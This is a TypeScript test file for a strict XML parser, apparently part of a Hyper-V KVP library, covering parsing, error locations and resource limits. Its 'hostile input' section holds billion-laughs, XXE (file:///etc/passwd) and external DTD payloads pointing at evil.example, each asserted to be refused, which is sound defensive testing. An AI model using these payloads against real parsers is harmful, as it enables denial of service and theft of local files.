/// <reference types="node" />
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { KvpError } from "../errors.js";
import { xmlString } from "../../test-support/cim/arbitraries.js";
import { DEFAULT_XML_LIMITS, type XmlElement, checkXml, parseXml, xmlLocation } from "./xml-parse.js";
import { escapeXmlAttribute, escapeXmlText } from "./xml-text.js";
import { thrown } from "@hyperv-kvp/test-support";

/** The tree as plain data: [name, attributes, ...children]. */
type Plain = [string, Record<string, string>, ...(Plain | string)[]];
function plain(element: XmlElement): Plain {
  return [
    element.name,
    Object.fromEntries(element.attributes),
    ...element.children.map((c) => (typeof c === "string" ? c : plain(c))),
  ];
}

/** What `fn` returns, or the KvpError it throws (anything else is rethrown). */
function outcome<T>(fn: () => T): T | KvpError {
  try {
    return fn();
  } catch (error) {
    if (!(error instanceof KvpError)) throw error;
    return error;
  }
}

describe("parseXml: what it reads", () => {
  it.each<[string, string, Plain]>([
    ["one element", "<a/>", ["a", {}]],
    ["attributes in either quote", `<a x="1" y='2'/>`, ["a", { x: "1", y: "2" }]],
    [
      "text, entities and character references",
      "<a>&lt;&gt;&amp;&quot;&apos;&#65;&#x1F600;</a>",
      ["a", {}, `<>&"'A😀`],
    ],
    ["CDATA is literal and joins adjacent text", "<a>x<![CDATA[&amp;<b>]]>y</a>", ["a", {}, "x&amp;<b>y"]],
    [
      "comments and PIs vanish",
      "<?xml version='1.0' encoding='UTF-8'?><!-- c --><?pi x?><a><!--z-->t<?p?></a><!-- after -->",
      ["a", {}, "t"],
    ],
    ["CRLF and CR become LF; &#13; stays CR", "<a>1\r\n2\r3&#13;</a>", ["a", {}, "1\n2\n3\r"]],
    ["attribute whitespace normalized, references kept", `<a v="x\ty\nz&#9;&#10;&#13;"/>`, ["a", { v: "x y z\t\n\r" }]],
    ["BOM and whitespace around", "\uFEFF \n<a/>\n ", ["a", {}]],
    ["whitespace before the declaration (tolerated)", "  <?xml version='1.0'?><a/>", ["a", {}]],
    ["nested, with whitespace text kept", "<a> <b>t</b> </a>", ["a", {}, " ", ["b", {}, "t"], " "]],
    ["namespaced names stay as written", `<p:a xmlns:p="urn:x" p:b="1"/>`, ["p:a", { "xmlns:p": "urn:x", "p:b": "1" }]],
    ["a > in text and attributes is fine", `<a b=">">></a>`, ["a", { b: ">" }, ">"]],
    [
      "__proto__, constructor and friends are plain names",
      `<__proto__ constructor="1" toString="2"><constructor/><prototype>x</prototype><hasOwnProperty/></__proto__>`,
      [
        "__proto__",
        { constructor: "1", toString: "2" },
        ["constructor", {}],
        ["prototype", {}, "x"],
        ["hasOwnProperty", {}],
      ],
    ],
    ["non-ASCII names", "<Ünï:名前 ä='ö'/>", ["Ünï:名前", { ä: "ö" }]],
  ])("%s", (_, xml, tree) => {
    expect(plain(parseXml(xml))).toEqual(tree);
  });

  it("keeps Object.prototype clean", () => {
    parseXml(`<__proto__ polluted="yes"><__proto__ polluted="yes"/></__proto__>`);
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });

  it("records where each element starts", () => {
    const xml = "<a>\r\n  <b/>\n\t<c/></a>";
    const root = parseXml(xml);
    const [, b, , c] = root.children as [string, XmlElement, string, XmlElement];
    expect(xmlLocation(xml, root.offset)).toEqual({ line: 1, column: 1 });
    expect(xmlLocation(xml, b.offset)).toEqual({ line: 2, column: 3 });
    expect(xmlLocation(xml, c.offset)).toEqual({ line: 3, column: 2 });
  });

  it("round-trips generated trees", () => {
    const name = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.-]{0,6}$/);
    const tree: fc.Arbitrary<Plain> = fc.letrec<{ node: Plain }>((tie) => ({
      node: fc
        .tuple(
          name,
          fc.uniqueArray(fc.tuple(name, xmlString), { maxLength: 3, selector: ([n]) => n }),
          fc.array(
            fc.oneof(
              { weight: 2, arbitrary: xmlString.filter((s) => s !== "") },
              { weight: 1, arbitrary: tie("node") },
            ),
            { maxLength: 3 },
          ),
        )
        .map(([n, attributes, children]) => {
          // Adjacent text merges when parsed: merge it here too.
          const merged: (Plain | string)[] = [];
          for (const child of children) {
            const last = merged[merged.length - 1];
            if (typeof child === "string" && typeof last === "string") merged[merged.length - 1] = last + child;
            else merged.push(child);
          }
          return [n, Object.fromEntries(attributes), ...merged] as Plain;
        }),
    })).node;
    const write = ([n, attributes, ...children]: Plain): string =>
      `<${n}${Object.entries(attributes)
        .map(([k, v]) => ` ${k}="${escapeXmlAttribute(v)}"`)
        .join("")}>${children.map((c) => (typeof c === "string" ? escapeXmlText(c) : write(c))).join("")}</${n}>`;
    fc.assert(
      fc.property(tree, (t) => {
        expect(plain(parseXml(write(t)))).toEqual(t);
      }),
      { numRuns: 200 },
    );
  });
});

describe("parseXml: what it refuses, with a location", () => {
  it.each<[string, string, string]>([
    ["empty", "", "invalid XML: no root element at line 1, column 1"],
    ["only a declaration", "<?xml version='1.0'?>", "invalid XML: no root element at line 1, column 22"],
    ["text only", "hello", "invalid XML: text before the root element at line 1, column 1"],
    ["unclosed", "<a><b></b>", "invalid XML: element <a> is not closed at line 1, column 1"],
    [
      "mismatched end tag",
      "<a>\n<b></c></a>",
      "invalid XML: end tag </c> does not match <b> (line 2, column 1) at line 2, column 4",
    ],
    ["stray end tag", "<a/></a>", "invalid XML: end tag </a> without a start tag at line 1, column 5"],
    ["two roots", "<a/><b/>", "invalid XML: a second root element at line 1, column 5"],
    ["text after root", "<a/>x", "invalid XML: text after the root element at line 1, column 5"],
    [
      "undefined entity",
      "<a>&nbsp;</a>",
      "invalid XML: entity &nbsp; is not accepted (only &lt; &gt; &amp; &quot; &apos; and character references are) at line 1, column 4",
    ],
    [
      "bare ampersand",
      "<a>fish & chips</a>",
      "invalid XML: '&' does not start a reference (write &amp;) at line 1, column 9",
    ],
    [
      "reference to NUL",
      "<a>&#0;</a>",
      "invalid XML: character reference &#0; is malformed or not an XML 1.0 character at line 1, column 4",
    ],
    [
      "reference to a surrogate",
      "<a x='&#xDFFF;'/>",
      "invalid XML: character reference &#xDFFF; is malformed or not an XML 1.0 character at line 1, column 7",
    ],
    ["malformed reference", "<a>&a b;</a>", "invalid XML: malformed reference &a b; at line 1, column 4"],
    ["C0 control", "<a>\u0007</a>", "invalid XML: character U+0007 is not allowed in XML 1.0 at line 1, column 4"],
    [
      "lone surrogate",
      "<a>😀\uD800</a>",
      "invalid XML: character U+D800 is not allowed in XML 1.0 at line 1, column 5",
    ],
    ["U+FFFF", "<a>\uFFFF</a>", "invalid XML: character U+FFFF is not allowed in XML 1.0 at line 1, column 4"],
    ["< in attribute", `<a b="<"/>`, "invalid XML: '<' in the value of attribute b at line 1, column 7"],
    ["unquoted attribute", "<a b=1/>", "invalid XML: attribute b value is not quoted at line 1, column 6"],
    ["attribute without value", "<a b/>", "invalid XML: attribute b has no value at line 1, column 5"],
    ["attributes not separated", `<a b="1"c="2"/>`, "invalid XML: malformed attribute in <a> at line 1, column 9"],
    ["duplicate attribute", `<a b="1" b="2"/>`, "invalid XML: duplicate attribute b in <a> at line 1, column 10"],
    ["unterminated attribute", `<a b="1/>`, "invalid XML: unterminated value of attribute b at line 1, column 6"],
    ["unterminated tag", "<a", "invalid XML: unterminated start tag <a> at line 1, column 1"],
    ["< alone", "<a>1 < 2</a>", "invalid XML: '<' does not start a tag (write &lt;) at line 1, column 6"],
    ["]]> in text", "<a>]]></a>", "invalid XML: ']]>' in text (write ]]&gt;) at line 1, column 4"],
    ["-- in comment", "<a><!-- a -- b --></a>", "invalid XML: '--' inside a comment at line 1, column 11"],
    ["unterminated comment", "<a><!-- x</a>", "invalid XML: unterminated comment at line 1, column 4"],
    ["unterminated CDATA", "<a><![CDATA[x</a>", "invalid XML: unterminated CDATA section at line 1, column 4"],
    [
      "CDATA outside root",
      "<![CDATA[x]]><a/>",
      "invalid XML: CDATA section outside the root element at line 1, column 1",
    ],
    [
      "late declaration",
      "<a/><?xml version='1.0'?>",
      "invalid XML: XML declaration not at the start of the document at line 1, column 5",
    ],
    [
      "malformed declaration",
      "<?xml version='2.0'?><a/>",
      "invalid XML: malformed XML declaration at line 1, column 1",
    ],
    [
      "quote in a PI (fast-xml-parser would read past it)",
      "<a><?pi '?>text<?x '?></a>",
      "invalid XML: quote inside a processing instruction (not supported) at line 1, column 9",
    ],
    [
      "DOCTYPE",
      "<!DOCTYPE a><a/>",
      "invalid XML: DOCTYPE refused (no DTDs, no entity declarations) at line 1, column 1",
    ],
    [
      "ENTITY outside a DOCTYPE",
      `<a><!ENTITY x "y"></a>`,
      "invalid XML: markup declaration refused (<!ENTITY, <!ELEMENT and the like belong in a DTD) at line 1, column 4",
    ],
    [
      "CRLF counts as one line",
      "<a>\r\n\r\n  &bad;</a>",
      "invalid XML: entity &bad; is not accepted (only &lt; &gt; &amp; &quot; &apos; and character references are) at line 3, column 3",
    ],
    [
      "columns count characters",
      "<a>😀😀&x;</a>",
      "invalid XML: entity &x; is not accepted (only &lt; &gt; &amp; &quot; &apos; and character references are) at line 1, column 6",
    ],
  ])("%s", (_, xml, message) => {
    const error = thrown(() => parseXml(xml), KvpError);
    expect(error.code).toBe("invalid-xml");
    expect(error.message).toBe(message);
  });

  it("refuses non-strings", () => {
    expect(thrown(() => parseXml(42 as unknown as string), KvpError).message).toBe("invalid XML: not a string");
  });
});

describe("hostile input", () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;

  it.each([
    [
      "billion laughs",
      billionLaughs,
      "invalid XML: DOCTYPE refused (no DTDs, no entity declarations) at line 2, column 1",
    ],
    [
      "external entity (XXE)",
      `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`,
      "invalid XML: DOCTYPE refused (no DTDs, no entity declarations) at line 1, column 22",
    ],
    [
      "external DTD",
      `<!DOCTYPE INSTANCE SYSTEM "http://evil.example/cim.dtd"><INSTANCE CLASSNAME="x"/>`,
      "invalid XML: DOCTYPE refused (no DTDs, no entity declarations) at line 1, column 1",
    ],
    [
      "parameter entity",
      `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><a/>`,
      "invalid XML: DOCTYPE refused (no DTDs, no entity declarations) at line 1, column 1",
    ],
    [
      "DOCTYPE hidden after a comment",
      `<!-- hi --><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>`,
      "invalid XML: DOCTYPE refused (no DTDs, no entity declarations) at line 1, column 12",
    ],
    [
      "entity use without declaration",
      "<a>&xxe;</a>",
      "invalid XML: entity &xxe; is not accepted (only &lt; &gt; &amp; &quot; &apos; and character references are) at line 1, column 4",
    ],
  ])("%s is refused", (_, xml, message) => {
    const result = outcome(() => parseXml(xml));
    expect(result).toBeInstanceOf(KvpError);
    expect((result as KvpError).code).toBe("invalid-xml");
    expect((result as KvpError).message).toBe(message);
  });

  it("stops deep nesting at maxDepth, without recursion trouble", () => {
    const deep = "<a>".repeat(100_000) + "</a>".repeat(100_000);
    const result = outcome(() => parseXml(deep));
    expect((result as KvpError).code).toBe("limit-exceeded");
    expect((result as KvpError).message).toBe("XML nested too deep: more than 32 levels (at line 1, column 97)");
    const ok = "<a>".repeat(32) + "</a>".repeat(32);
    expect(parseXml(ok).name).toBe("a");
    expect(thrown(() => parseXml(ok, { maxDepth: 31 }), KvpError).code).toBe("limit-exceeded");
    expect(parseXml("<a>".repeat(150) + "</a>".repeat(150), { maxDepth: 150 }).name).toBe("a");
  });

  it("stops large input, many elements and many attributes", () => {
    expect(DEFAULT_XML_LIMITS).toEqual({
      maxInputChars: 1_048_576,
      maxDepth: 32,
      maxElements: 65_536,
      maxAttributes: 32,
    });
    const big = `<a>${"x".repeat(DEFAULT_XML_LIMITS.maxInputChars)}</a>`;
    expect(thrown(() => parseXml(big), KvpError).message).toBe("XML too long: 1048583 characters, limit 1048576");
    expect(thrown(() => parseXml("<a>ok</a>", { maxInputChars: 8 }), KvpError).code).toBe("limit-exceeded");
    const many = `<a>${"<b/>".repeat(100)}</a>`;
    expect(parseXml(many, { maxElements: 101 }).children).toHaveLength(100);
    expect(thrown(() => parseXml(many, { maxElements: 100 }), KvpError).message).toBe(
      "XML has too many elements: more than 100 (at line 1, column 400)",
    );
    const attributes = `<a ${Array.from({ length: 33 }, (_, i) => `a${i}="${i}"`).join(" ")}/>`;
    const error = thrown(() => parseXml(attributes), KvpError);
    expect(error.code).toBe("limit-exceeded");
    expect(error.message).toMatch(/^XML element <a> has too many attributes: more than 32 \(at line 1, column \d+\)$/);
  });

  // Linear time on these is measured by scripts/bench-cim.mjs (pathological inputs against a
  // bare parse of 1 MB of text), not asserted here: unit tests carry no timing thresholds.
  it("answers pathological input with a tree or a typed error, never another exception", () => {
    const size = 1_000_000;
    const cases = [
      `<a>${"&amp;".repeat(size / 5)}</a>`,
      `<a>${"x".repeat(size)}</a>`,
      `<a>${"<b/>".repeat(60_000)}${"&".repeat(1)}</a>`,
      `<a>${"a".repeat(size)}&${"b".repeat(100)}</a>`,
      `<a>${"<".repeat(size)}</a>`,
      `<a>${"]]".repeat(size / 2)}</a>`,
      `<a><!--${"-".repeat(size)}--></a>`,
      `<a><![CDATA[${"]".repeat(size)}`,
      `<a b="${"&lt;".repeat(size / 4)}"/>`,
      `<a ${"b".repeat(size)}="1"/>`,
      `${"<a>".repeat(31)}${"<b/>".repeat(60_000)}`,
      `<a>${"<b>".repeat(31)}${"</b>".repeat(31)}`.repeat(1000),
      "<".repeat(size),
      "&".repeat(size),
    ];
    for (const xml of cases) {
      const result = outcome(() => parseXml(xml));
      expect(
        result instanceof KvpError || (typeof result === "object" && typeof result.name === "string"),
        xml.slice(0, 40),
      ).toBe(true);
    }
  });

  it("garbage in → typed error out (random text)", () => {
    const alphabet = fc.constantFrom(
      "<",
      ">",
      "/",
      "!",
      "?",
      "-",
      "[",
      "]",
      "&",
      ";",
      "#",
      "x",
      "a",
      "=",
      '"',
      "'",
      " ",
      "\n",
      "\r",
      "\u0000",
      "CDATA[",
      "DOCTYPE",
      "<!--",
      "-->",
      "]]>",
      "<?xml ",
      "?>",
      "&amp;",
      "&#x41;",
      "😀",
      "\uD800",
    );
    fc.assert(
      fc.property(
        fc.array(alphabet, { maxLength: 40 }).map((parts) => parts.join("")),
        (text) => {
          try {
            checkXml(text);
            parseXml(text);
          } catch (error) {
            expect(error).toBeInstanceOf(KvpError);
            expect(["invalid-xml", "limit-exceeded"]).toContain((error as KvpError).code);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });

  it("garbage in → typed error out (mutated documents)", () => {
    const seed = `<?xml version="1.0"?><INSTANCE CLASSNAME="Msvm_KvpExchangeDataItem"><PROPERTY NAME="Data" TYPE="string"><VALUE>a &amp; b<![CDATA[<x>]]></VALUE></PROPERTY><!-- c --></INSTANCE>`;
    const mutation = fc.tuple(
      fc.nat({ max: seed.length }),
      fc.nat({ max: 5 }),
      fc.string({ unit: "binary", maxLength: 4 }),
    );
    fc.assert(
      fc.property(fc.array(mutation, { minLength: 1, maxLength: 4 }), (mutations) => {
        let text = seed;
        for (const [at, remove, insert] of mutations) text = text.slice(0, at) + insert + text.slice(at + remove);
        try {
          parseXml(text);
        } catch (error) {
          expect(error).toBeInstanceOf(KvpError);
          expect(["invalid-xml", "limit-exceeded"]).toContain((error as KvpError).code);
        }
      }),
      { numRuns: 2000 },
    );
  });
});
